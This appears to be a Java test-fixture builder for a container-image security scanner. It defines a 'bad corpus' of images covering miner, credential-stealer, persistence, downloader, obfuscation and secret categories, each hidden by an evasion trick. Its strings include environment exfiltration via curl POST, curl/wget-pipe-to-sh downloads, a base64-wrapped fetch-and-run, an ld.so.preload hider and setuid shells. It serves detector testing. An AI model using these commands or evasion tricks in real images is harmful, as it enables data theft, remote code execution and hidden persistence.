package dev.palisade.scanner.corpus;

import static dev.palisade.scanner.corpus.Payloads.*;

import dev.palisade.scanner.corpus.LayoutWriter.Compression;
import dev.palisade.scanner.corpus.LayoutWriter.Image;
import dev.palisade.scanner.fixtures.TarBuilder;
import dev.palisade.testing.Skopeo;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;

/**
 * The bad half of the corpus: harmless images carrying the patterns of every detection category,
 * each hidden in one of the ways the scanner claims to see through. All are written into one OCI
 * layout (one tag each); a few are then converted by skopeo to docker-archive files.
 */
final class BadCorpus {

  private record Definition(String name, String category, String evasion, Set<String> rules, Image image, boolean dockerArchive) {}

  private final List<Definition> definitions = new ArrayList<>();
  private final List<CorpusImage> multiPlatform = new ArrayList<>();

  private BadCorpus() {}

  private static TarBuilder tar() {
    return new TarBuilder().file("etc/corpus-release", "ID=palisade-corpus\n");
  }

  private static Image image(TarBuilder... layers) {
    Image image = new Image();
    for (TarBuilder t : layers) {
      image.layer(t.build(), Compression.GZIP);
    }
    return image;
  }

  private static Image zstdImage(TarBuilder... layers) {
    Image image = new Image();
    for (TarBuilder t : layers) {
      image.layer(t.build(), Compression.ZSTD);
    }
    return image;
  }

  private void add(String name, String category, String evasion, Set<String> rules, Image image) {
    definitions.add(new Definition(name, category, evasion, rules, image, false));
  }

  private void addDockerArchive(String name, String category, Set<String> rules, Image image) {
    definitions.add(new Definition(name, category, "docker-archive", rules, image, true));
  }

  /** Builds every bad image under {@code dir}; returns their labels. */
  static List<CorpusImage> build(Path dir) throws IOException {
    BadCorpus c = new BadCorpus();
    c.define();
    Path layout = dir.resolve("bad-oci");
    List<CorpusImage> out = new ArrayList<>();
    List<Definition> archives = new ArrayList<>();
    for (Definition d : c.definitions) {
      LayoutWriter.write(layout, d.name(), d.image());
      if (d.dockerArchive()) {
        archives.add(d);
      } else {
        out.add(new CorpusImage(d.name(), d.category(), d.evasion(), d.rules(), "oci:" + layout + ":" + d.name()));
      }
    }
    try (Skopeo skopeo = Skopeo.create()) {
      for (Definition d : archives) {
        Path file = dir.resolve(d.name() + ".docker.tar");
        skopeo.copy(Skopeo.oci(layout, d.name()), Skopeo.dockerArchive(file, "corpus/" + d.name() + ":latest"));
        out.add(new CorpusImage(d.name(), d.category(), d.evasion(), d.rules(), "docker-archive:" + file));
      }
    }
    c.multiPlatform(layout, out);
    return out;
  }

  /** Two indexes whose amd64 image is clean and whose arm64 image is not. */
  private void multiPlatform(Path layout, List<CorpusImage> out) throws IOException {
    Image clean = image(tar().file("app/main.py", "print('hello')\n")).architecture("amd64");
    Image badHook = image(tar().file("usr/local/lib/python3.11/site-packages/zz_init.pth", PTH)).architecture("arm64");
    LayoutWriter.writeIndex(layout, "multi-pth", List.of(clean, badHook));
    out.add(new CorpusImage("multi-pth", "startup-hook", "multi-platform-one-bad", Set.of("hook.python.pth-exec"),
        "oci:" + layout + ":multi-pth"));
    Image clean2 = image(tar().file("app/main.py", "print('hello')\n")).architecture("amd64");
    Image badMiner = image(tar().file("usr/sbin/log_rot", xmrigElf(), 0755)).architecture("arm64");
    LayoutWriter.writeIndex(layout, "multi-miner", List.of(clean2, badMiner));
    out.add(new CorpusImage("multi-miner", "miner", "multi-platform-one-bad", Set.of("miner.xmrig.binary"),
        "oci:" + layout + ":multi-miner"));
  }

  private void define() {
    // --- miners
    add("miner-renamed-elf", "miner", "renamed-binary", Set.of("miner.xmrig.binary"),
        image(tar(), new TarBuilder().file("usr/local/bin/nodjs", xmrigElf(), 0755)));
    add("miner-deleted-later", "miner", "deleted-later-layer", Set.of("miner.xmrig.binary"),
        image(tar(), new TarBuilder().file("var/tmp/.font-unix/kworker", xmrigElf(), 0755),
            new TarBuilder().whiteout("var/tmp/.font-unix/kworker")));
    add("miner-config-zstd", "miner", "zstd", Set.of("miner.config.xmrig"),
        zstdImage(tar(), new TarBuilder().file("etc/log_rot/config.json", XMRIG_CONFIG)));
    add("miner-config-jar-in-jar", "miner", "jar-in-jar", Set.of("miner.config.xmrig"),
        image(tar().file("opt/app/app.jar", zip("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n",
            "BOOT-INF/lib/plugin.jar", zip("config/pools.json", XMRIG_CONFIG)))));
    add("miner-raw-ip-443-cmd", "miner", "config-only", Set.of("miner.pool.raw-ip-endpoint"),
        image(tar()).entrypoint("/usr/local/bin/nodjs").cmd("--url", "91.208.184.66:443", "--tls", "-k"));
    addDockerArchive("miner-docker-archive", "miner", Set.of("miner.xmrig.binary"),
        image(tar(), new TarBuilder().file("usr/lib/systemd/systemd-helper", xmrigElf(), 0755)));
    // --- credential stealers
    add("stealer-plain", "credential-stealer", "none", Set.of("stealer.credential-harvest"),
        image(tar().file("usr/lib/python3/dist-packages/telemetry/collect.py", STEALER_PY)));
    add("stealer-deleted-later", "credential-stealer", "deleted-later-layer", Set.of("stealer.credential-harvest"),
        image(tar(), new TarBuilder().file("opt/app/.cache/c.py", STEALER_PY), new TarBuilder().whiteout("opt/app/.cache")));
    add("stealer-base64-wrapped", "credential-stealer", "base64-wrapped", Set.of("stealer.credential-harvest"),
        image(tar().file("opt/app/loader.py", "import base64\nP = '" + base64(STEALER_PY) + "'\n")));
    add("stealer-env-script", "credential-stealer", "none", Set.of("stealer.env-exfil"),
        image(tar().file("app/start.sh", utf8(ENV_EXFIL_SH), 0755)));
    add("stealer-env-cmd", "credential-stealer", "config-only", Set.of("stealer.env-exfil"),
        image(tar()).cmd("sh", "-c", "printenv | curl -X POST --data-binary @- http://198.51.100.7/in"));
    add("stealer-in-wheel", "credential-stealer", "jar-in-jar", Set.of("stealer.credential-harvest"),
        image(tar().file("tmp/wheels/telemetry-1.0-py3-none-any.whl", zip("telemetry/__init__.py", STEALER_PY))));
    add("stealer-zstd", "credential-stealer", "zstd", Set.of("stealer.env-exfil"),
        zstdImage(tar(), new TarBuilder().file("srv/hook.py", ENV_EXFIL_PY)));
    // --- startup hooks
    add("hook-pth", "startup-hook", "none", Set.of("hook.python.pth-exec"),
        image(tar().file("usr/local/lib/python3.11/site-packages/litellm_init.pth", PTH)));
    add("hook-pth-deleted-later", "startup-hook", "deleted-later-layer", Set.of("hook.python.pth-exec"),
        image(tar(), new TarBuilder().file("usr/lib/python3/dist-packages/zz_boot.pth", PTH),
            new TarBuilder().whiteout("usr/lib/python3/dist-packages/zz_boot.pth")));
    add("hook-pth-hardlink-later", "startup-hook", "hardlink-later-layer", Set.of("layer.hardlink-to-sensitive-location"),
        image(tar(), new TarBuilder().file("usr/share/doc/zz-boot/README", PTH),
            new TarBuilder().hardlink("usr/lib/python3/dist-packages/zz_boot.pth", "usr/share/doc/zz-boot/README")));
    add("hook-sitecustomize", "startup-hook", "none", Set.of("hook.python.sitecustomize"),
        image(tar().file("usr/lib/python3.11/sitecustomize.py", SITECUSTOMIZE)));
    add("hook-npm-postinstall", "startup-hook", "none", Set.of("hook.npm.install-script"),
        image(tar().file("app/node_modules/colors-plus/package.json", NPM_PACKAGE)));
    add("hook-javaagent-env", "startup-hook", "config-only", Set.of("hook.java.javaagent-env"),
        image(tar()).env("PATH=/usr/bin", "JAVA_TOOL_OPTIONS=-Xmx512m -javaagent:/opt/.cache/agent.jar"));
    addDockerArchive("hook-npm-docker-archive", "startup-hook", Set.of("hook.npm.install-script"),
        image(tar().file("usr/lib/node_modules/colors-plus/package.json", NPM_PACKAGE)));
    // --- persistence
    add("persist-user-unit", "persistence", "none", Set.of("persistence.systemd.suspicious-unit"),
        image(tar().file("root/.config/systemd/user/sysmon.service", USER_UNIT)));
    add("persist-shm-unit-zstd", "persistence", "zstd", Set.of("persistence.systemd.suspicious-unit"),
        zstdImage(tar().file("etc/systemd/system/kworker.service", SHM_UNIT)));
    add("persist-cron", "persistence", "none", Set.of("persistence.cron.suspicious-entry"),
        image(tar().file("etc/cron.d/sync", CRON)));
    add("persist-cron-hardlink-later", "persistence", "hardlink-later-layer", Set.of("layer.hardlink-to-sensitive-location"),
        image(tar(), new TarBuilder().file("var/lib/misc/sync.dat", CRON),
            new TarBuilder().hardlink("etc/cron.d/sync", "var/lib/misc/sync.dat")));
    add("persist-ld-preload", "persistence", "none", Set.of("persistence.ld-so-preload"),
        image(tar().file("etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")));
    add("persist-profile-d", "persistence", "none", Set.of("persistence.login-script"),
        image(tar().file("etc/profile.d/zz-update.sh", PROFILE_D)));
    add("persist-rc-local", "persistence", "none", Set.of("persistence.login-script"),
        image(tar().file("etc/rc.local", utf8(RC_LOCAL), 0755)));
    add("persist-authorized-keys", "persistence", "none", Set.of("persistence.ssh.authorized-keys"),
        image(tar().file("root/.ssh/authorized_keys", AUTHORIZED_KEYS)));
    add("persist-setuid-bash", "persistence", "renamed-binary", Set.of("persistence.setuid.shell"),
        image(tar(), new TarBuilder().file("usr/bin/dbus-helper", bashElf(), 04755)));
    add("persist-setuid-deleted", "persistence", "deleted-later-layer", Set.of("persistence.setuid.unusual-location"),
        image(tar(), new TarBuilder().file("var/tmp/.d/helper", elf("\0helper\0", 9), 04755),
            new TarBuilder().whiteout("var/tmp/.d")));
    add("persist-setuid-script", "persistence", "none", Set.of("persistence.setuid.script"),
        image(tar().file("usr/local/sbin/fix-perms", utf8("#!/bin/sh\nchown -R app /data\n"), 06755)));
    // --- runtime downloaders
    add("dl-entrypoint-script", "downloader", "none", Set.of("downloader.fetch-chmod-run"),
        image(tar().file("docker-entrypoint.sh", utf8(DROPPER_SH), 0755)).entrypoint("/docker-entrypoint.sh"));
    add("dl-cmd-curl-sh", "downloader", "config-only", Set.of("shell.download-exec"),
        image(tar()).cmd("/bin/sh", "-c", "curl -fsSL https://get.invalid/run.sh | sh"));
    add("dl-raw-ip-script", "downloader", "none", Set.of("downloader.raw-ip-fetch-exec"),
        image(tar().file("start.sh", utf8(RAW_IP_SH), 0755)));
    add("dl-history-wget-sh", "downloader", "config-only", Set.of("shell.download-exec"),
        image(tar()).history("RUN wget -qO- http://203.0.113.3/i.sh | sh"));
    addDockerArchive("dl-python-docker-archive", "downloader", Set.of("downloader.fetch-chmod-run"),
        image(tar().file("app/boot.py", utf8(DROPPER_PY), 0755)));
    // --- obfuscation
    add("obf-upx", "obfuscation", "none", Set.of("packer.upx.elf"),
        image(tar().file("usr/local/bin/svc", upxElf(), 0755)));
    add("obf-exec-b64", "obfuscation", "none", Set.of("obfuscation.exec-decoded"),
        image(tar().file("app/util.py", EXEC_B64_PY)));
    add("obf-b64-stratum", "obfuscation", "base64-wrapped", Set.of("miner.stratum.uri", "miner.cli.arguments"),
        image(tar().file("app/settings.py", "CFG = '" + base64(MINER_ARGS) + "'\n")));
    add("obf-b64-cmd", "obfuscation", "config-only", Set.of("shell.base64-exec"),
        image(tar()).cmd("sh", "-c", "echo " + base64("curl http://203.0.113.2/x | sh") + " | base64 -d | sh"));
    add("obf-hex-env-exfil", "obfuscation", "hex-wrapped", Set.of("stealer.env-exfil"),
        image(tar().file("app/x.py", "blob = bytes.fromhex('" + hex(ENV_EXFIL_PY) + "')\n")));
    add("obf-b64-pth", "obfuscation", "base64-wrapped", Set.of("hook.python.pth-exec"),
        image(tar(), new TarBuilder().file("usr/lib/python3/dist-packages/a.pth", "import os; exec(__import__('base64').b64decode('"
            + base64("import os; os.system('id')") + "'))\n")));
    // --- secrets
    add("secret-key-deleted", "secret", "deleted-later-layer", Set.of("secret.private-key"),
        image(tar(), new TarBuilder().file("root/.ssh/id_ed25519", PRIVATE_KEY), new TarBuilder().whiteout("root/.ssh/id_ed25519")));
    add("secret-aws", "secret", "none", Set.of("secret.cloud-access-key"),
        image(tar().file("root/.aws/credentials", AWS_CREDENTIALS)));
    add("secret-docker-config", "secret", "none", Set.of("secret.registry-token"),
        image(tar().file("root/.docker/config.json", DOCKER_CONFIG)));
    add("secret-github-zstd", "secret", "zstd", Set.of("secret.registry-token"),
        zstdImage(tar().file("app/.env", GH_ENV)));
    add("secret-sa-in-jar", "secret", "jar-in-jar", Set.of("secret.private-key"),
        image(tar().file("opt/app/app.jar", zip("BOOT-INF/lib/gcp.jar", zip("sa.json", SA_JSON)))));
    add("secret-env-config", "secret", "config-only", Set.of("secret.registry-token"),
        image(tar()).env("NPM_TOKEN=npm_Zq8Lw2Xv7Rt5Yp3Nm9Kd4Hs6Jf1Bc0Ga2Ue7"));
  }
}
